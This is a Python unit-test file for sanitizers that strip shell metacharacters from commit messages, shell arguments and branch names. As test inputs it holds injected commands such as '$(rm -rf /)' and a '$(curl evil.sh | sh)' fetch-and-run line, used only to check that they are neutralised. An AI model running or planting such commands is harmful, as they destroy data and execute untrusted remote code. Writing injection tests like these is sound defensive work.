"""Unit tests for shell.py - commit message and argument sanitizers."""

import pytest

from patchguard.safety.shell import (
    DEFAULT_COMMIT_MESSAGE,
    sanitize_branch_name,
    sanitize_commit_message,
    sanitize_for_shell,
)

FORBIDDEN = set("`$;|<>\"'")


class TestSanitizeCommitMessage:
    """Test commit-message sanitization."""

    def test_plain_message_unchanged(self):
        assert sanitize_commit_message("Fix typo in README") == "Fix typo in README"

    def test_command_substitution_removed(self):
        out = sanitize_commit_message("Update $(rm -rf /) and `whoami`")
        assert "$" not in out
        assert "`" not in out
        assert out == "Update (rm -rf /) and whoami"

    def test_separators_and_redirects_removed(self):
        out = sanitize_commit_message("a; b && c | d > e < f")
        assert out == "a b c d e f"

    def test_quotes_removed(self):
        assert sanitize_commit_message("Say \"hi\" and 'bye'") == "Say hi and bye"

    def test_newlines_collapse_to_spaces(self):
        assert sanitize_commit_message("line one\n\nline two\r\n") == "line one line two"

    def test_control_characters_removed(self):
        assert sanitize_commit_message("bell\x07 and nul\x00 chars") == "bell and nul chars"

    def test_truncates_with_ellipsis(self):
        out = sanitize_commit_message("word " * 40)
        assert len(out) <= 72
        assert out.endswith("...")

    def test_custom_max_length(self):
        out = sanitize_commit_message("x" * 50, max_length=20)
        assert len(out) == 20
        assert out == "x" * 17 + "..."

    @pytest.mark.parametrize("raw", ["", "   ", "$;|`", "\"'", "\n\n", None])
    def test_fallback_when_nothing_remains(self, raw):
        assert sanitize_commit_message(raw) == DEFAULT_COMMIT_MESSAGE  # type: ignore[arg-type]

    @pytest.mark.parametrize(
        "raw",
        [
            "feat: add `eval` $(curl evil.sh | sh); echo 'pwned' > /tmp/x",
            "\"quoted\" <tag> && || ;;",
            "normal message with a very long tail " * 10,
        ],
    )
    def test_output_is_safe(self, raw):
        out = sanitize_commit_message(raw)
        assert not (set(out) & FORBIDDEN)
        assert len(out) <= 72
        assert "\n" not in out


class TestSanitizeForShell:
    def test_strips_metacharacters(self):
        assert sanitize_for_shell("a;b|c&d`e`$f<g>h") == "abcdefgh"

    def test_newlines_become_spaces(self):
        assert sanitize_for_shell("a\nb\rc") == "a b c"

    def test_empty(self):
        assert sanitize_for_shell("") == ""


class TestSanitizeBranchName:
    def test_valid_name_unchanged(self):
        assert sanitize_branch_name("feature/issue-42") == "feature/issue-42"

    def test_spaces_and_shell_chars_replaced(self):
        assert sanitize_branch_name("fix $(x); y") == "fix---x---y"

    def test_double_dots_collapsed(self):
        assert ".." not in sanitize_branch_name("a..b/../c")

    def test_lock_suffix_removed(self):
        assert sanitize_branch_name("main.lock") == "main"

    def test_empty(self):
        assert sanitize_branch_name("///") == ""
